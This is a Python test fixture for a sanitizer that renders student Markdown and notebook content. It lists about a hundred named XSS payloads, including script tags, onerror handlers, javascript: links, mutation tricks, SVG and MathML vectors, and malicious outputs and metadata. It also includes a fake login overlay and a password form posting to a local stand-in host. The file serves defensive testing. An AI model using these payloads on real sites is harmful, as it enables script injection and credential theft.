"""What a student can write so that something runs, covers or is fetched where a page shows it.

Each payload calls `ran()` if it runs. A page that defines it, shows them all, and where it was never called, though every
element has been clicked, and nothing has been asked for, is safe.
"""

from __future__ import annotations

import base64
from typing import Any

_RUN = "ran()"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script><circle r="9"/></svg>'
_PAGE = base64.b64encode(f"<script>parent.ran();{_RUN}</script>".encode()).decode()
_B64_SVG = base64.b64encode(_SVG.encode()).decode()
# A picture of one point.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
# Where nothing answers; asking for it would be seen.
AWAY = "http://127.0.0.1:9"

# Name -> Markdown.
MARKDOWN = {
    "script": f"Before <script>{_RUN}</script> after",
    "script-block": f"<script>\n{_RUN}\n</script>",
    "script-in-bold": f"**<script>{_RUN}</script>**",
    "script-upper": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script-module": f"<script type=module>{_RUN}</script>",
    "script-mathjax": f'<script type="text/x-mathjax-config">{_RUN}</script>',
    "script-broken": f"<script\n>{_RUN}</script\n>",
    "script-slash": f"<script/x>{_RUN}</script>",
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-far": f"<script src=\"{AWAY}/x.js\"></script>",
    "img-onerror": f'<img src=x onerror="{_RUN}">',
    "img-onerror-slashes": f'<img/src/onerror={_RUN}>',
    "img-unclosed": f'<img src=x onerror="{_RUN}" ',
    "img-alt": f'![" onerror="{_RUN}](x)',
    "img-title": f"![a](x '\" onerror=\"{_RUN}')",
    "svg": _SVG,
    "svg-use": f'<svg><use href="data:image/svg+xml;base64,{_B64_SVG}#x"/></svg>',
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{_RUN}"/><text y=20>click</text></a></svg>',
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    "math": f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>click</maction></math>",
    "math-mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "comment-mutation": f"<!--><img src=x onerror={_RUN}>-->",
    "comment-bang": f"<!-- --!><img src=x onerror={_RUN}> -->",
    "cdata": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "marked-section": f"<div><![&quot; onerror={_RUN}]><img src=x onerror={_RUN}></div>",
    "marked-section-odd": f'<div><![" onerror="{_RUN}]</div>',
    "textarea": f'<textarea></textarea><img src=x onerror={_RUN}>',
    "title-mutation": f'<title><a href="</title><img src=x onerror={_RUN}>">',
    "body-onload": f"<body onload={_RUN}>",
    "details-ontoggle": f"<details open ontoggle={_RUN}>text</details>",
    "video-onerror": f"<video><source onerror={_RUN}></video>",
    "input-autofocus": f"<input autofocus onfocus={_RUN}>",
    "style-animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={_RUN}>x</b>",
    "div-onclick": f'<div onclick="{_RUN}">click</div>',
    "link-javascript": f"[click](javascript:{_RUN})",
    "link-javascript-upper": f"[click](JaVaScRiPt:{_RUN})",
    "link-javascript-entity": f"[click](&#106;avascript:{_RUN})",
    "link-javascript-tab": f"[click](<java\tscript:{_RUN}>)",
    "link-javascript-newline": f'<a href="java\nscript:{_RUN}">click</a>',
    "link-javascript-html": f'<a href="javascript:{_RUN}">click</a>',
    "link-javascript-control": f'<a href="\x01javascript:{_RUN}">click</a>',
    "link-javascript-files": f"[click](files/javascript:{_RUN})",
    "link-javascript-files-html": f'<a href="/files/javascript:{_RUN}">click</a>',
    "link-javascript-reference": f"[click]\n\n[click]: javascript:{_RUN}",
    "link-javascript-auto": f"<javascript:{_RUN}>",
    "link-javascript-heading": f"# [click](javascript:{_RUN})",
    "link-javascript-table": f"| a |\n|---|\n| [click](javascript:{_RUN}) |",
    "link-vbscript": "[click](vbscript:msgbox)",
    "link-data": f"[click](data:text/html;base64,{_PAGE})",
    "image-data-html": f"![a](data:text/html;base64,{_PAGE})",
    "link-blob": "[click](blob:null/1)",
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    "meta-refresh-away": f'<meta http-equiv="refresh" content="0;url={AWAY}/refresh">',
    "base": f'<base href="{AWAY}/">',
    "link-sheet": f'<link rel=stylesheet href="{AWAY}/x.css">',
    "style-import": f"<style>@import url({AWAY}/x.css);</style>",
    "style-url": f'<b style="background:url({AWAY}/x.png)">x</b>',
    "style-fixed": '<div style="position:fixed;inset:0;z-index:99999;background:white">Session ended. Log in.</div>',
    "style-upper": '<div STYLE="POSITION:\\66ixed;inset:0">x</div>',
    "class-of-the-page": '<div class="navbar-fixed-top modal-backdrop in">x</div>',
    "data-toggle": f'<a data-toggle="tooltip" data-html="true" data-trigger="manual" title="<img src=x onerror={_RUN}>">x</a>',
    "data-link": f'<a data-link="javascript:{_RUN}">click</a>',
    "id-of-the-page": '<textarea id="moco-q1-comment">Full points!</textarea>',
    "form": f'<form action="javascript:{_RUN}"><button>click</button></form>',
    "form-away": f'<form action="{AWAY}/steal"><input name=password><input type=submit value=click></form>',
    "button-formaction": f'<form id=f></form><button form=f formaction="javascript:{_RUN}">click</button>',
    "iframe-src": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "object": f'<object data="data:text/html;base64,{_PAGE}"></object>',
    "embed": f'<embed src="data:text/html;base64,{_PAGE}">',
    "portal": f'<area href="javascript:{_RUN}"><map name=m><area href="javascript:{_RUN}" coords="0,0,9,9"></map>',
    "closes-the-page": f"</div></div></div></body></html><script>{_RUN}</script>",
    "hides-what-follows": "<details><summary>more</summary>",
    "comments-what-follows": "<!-- ",
    "plaintext": "<plaintext>",
    "xmp": f"<xmp></xmp><img src=x onerror={_RUN}>",
    "template": f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    "custom-element": f"<x-y onmouseover={_RUN} tabindex=0 autofocus onfocus={_RUN}>x</x-y>",
    "mermaid": f"```mermaid\ngraph TD\n</pre><img src=x onerror={_RUN}>\n```",
    "fence-info": f'```"><img src=x onerror={_RUN}>\ncode\n```',
    "code-span-broken": f"`` ` <img src=x onerror={_RUN}> `",
    "math-href": f"$\\href{{javascript:{_RUN}}}{{click}}$",
    "math-style": "$\\style{position:fixed;inset:0}{x}$",
    "math-token": f"$$\\mmlToken{{mi}}[href='javascript:{_RUN}']{{click}}$$",
    "math-entity": f"&#36;&#92;href{{javascript:{_RUN}}}{{click}}&#36;",
    "math-entity-html": f"<b>$&#92;href{{javascript:{_RUN}}}{{click}}$</b>",
    "math-backticks": f"`\n\n$\\href{{javascript:{_RUN}}}{{click}}$\n\n`",
    "math-backtick-escaped": f"\\`$\\href{{javascript:{_RUN}}}{{click}}$\\`",
    "math-backtick-html": f"<div>`$\\href{{javascript:{_RUN}}}{{click}}$`</div>",
    "math-html": f"$a <img src=x onerror={_RUN}> b$",
    "math-block-html": f"$$\n<script>{_RUN}</script>\n$$",
    "latex-html": f"\\begin{{align}}<img src=x onerror={_RUN}>\\end{{align}}",
    "null": f"<scr\0ipt>{_RUN}</scr\0ipt><img src=x\0 onerror={_RUN}>",
    "attachment-missing": "![a](attachment:nothing.png)",
    "attachment-svg": "![a](attachment:evil.svg)",
    "attachment-broken": "![a](attachment:broken.png)",
}  # fmt: skip
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": _B64_SVG},
    "broken.png": {"image/png": f'AAAA" onerror="{_RUN}" x="'},
    "both.png": {"image/png": PNG, "image/svg+xml": _B64_SVG},
    "page.html": {"text/html": _PAGE},
}

# What a cell may have put out.
OUTPUTS: list[dict[str, Any]] = [
    {"text/html": f"<script>{_RUN}</script><img src=x onerror={_RUN}>"},
    {"application/javascript": _RUN},
    {"image/svg+xml": _SVG},
    {"text/markdown": f"<img src=x onerror={_RUN}>"},
    {"text/latex": f"$\\href{{javascript:{_RUN}}}{{click}}$"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{_RUN}</script>", "version_major": 2}},
    {"image/png": f'AAAA" onerror="{_RUN}'},
    {"text/vnd.mermaid": f"<img src=x onerror={_RUN}>"},
]  # fmt: skip

_TAG = f'"><img src=x onerror={_RUN}><script>{_RUN}</script>'
METADATA: dict[str, Any] = {
    "title": f"</title><script>{_RUN}</script>",
    "authors": [{"name": _TAG}],
    "kernelspec": {"name": "python3", "display_name": _TAG, "language": _TAG},
    "language_info": {"name": _TAG, "pygments_lexer": _TAG, "codemirror_mode": _TAG},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"x": f"</script><script>{_RUN}</script>"}},
}
CELL_METADATA: dict[str, Any] = {"tags": [_TAG], "alt": _TAG, "name": _TAG, "magics_language": _TAG}

# What honest students write, and must be able to read again: name -> (Markdown, what the page holds).
HONEST = {
    "bold": ("**bold** and *italic* and `a < b`", "<strong>bold</strong>"),
    "formula": ("The loss is $-\\log \\frac{a<b}{c}$.", "$-\\log \\frac{a&lt;b}{c}$"),
    "table": ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
    "code": ("```python\nif a < b: print('<b>')\n```", '<span class="k">if</span>'),
    "code-of-html": ("```\n<script>alert(1)</script>\n```", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "picture": ("![a cat](attachment:cat.png)", f'src="data:image/png;base64,{PNG}"'),
    "picture-in-the-text": (f"![a cat](data:image/png;base64,{PNG})", f'src="data:image/png;base64,{PNG}"'),
    "link": ("[the paper](https://arxiv.org/abs/1911.05722)", 'href="https://arxiv.org/abs/1911.05722"'),
    "html": ("H<sub>2</sub>O<br>and <b>bold</b>", "H<sub>2</sub>O"),
    "comparison": ("a < b and c > d & x <- y", "a &lt; b"),
    "tasks": ("- [x] done\n- [ ] open", "done"),
    "alert": ('<div class="alert alert-info">Note</div>', 'class="alert alert-info"'),
    "formula-that-begins-alike": ("$\\left( x \\leq \\defects \\right) \\letter$", "\\left( x \\leq"),
    "coloured": ("<font color='red'>red</font>", '<font color="red">'),
}
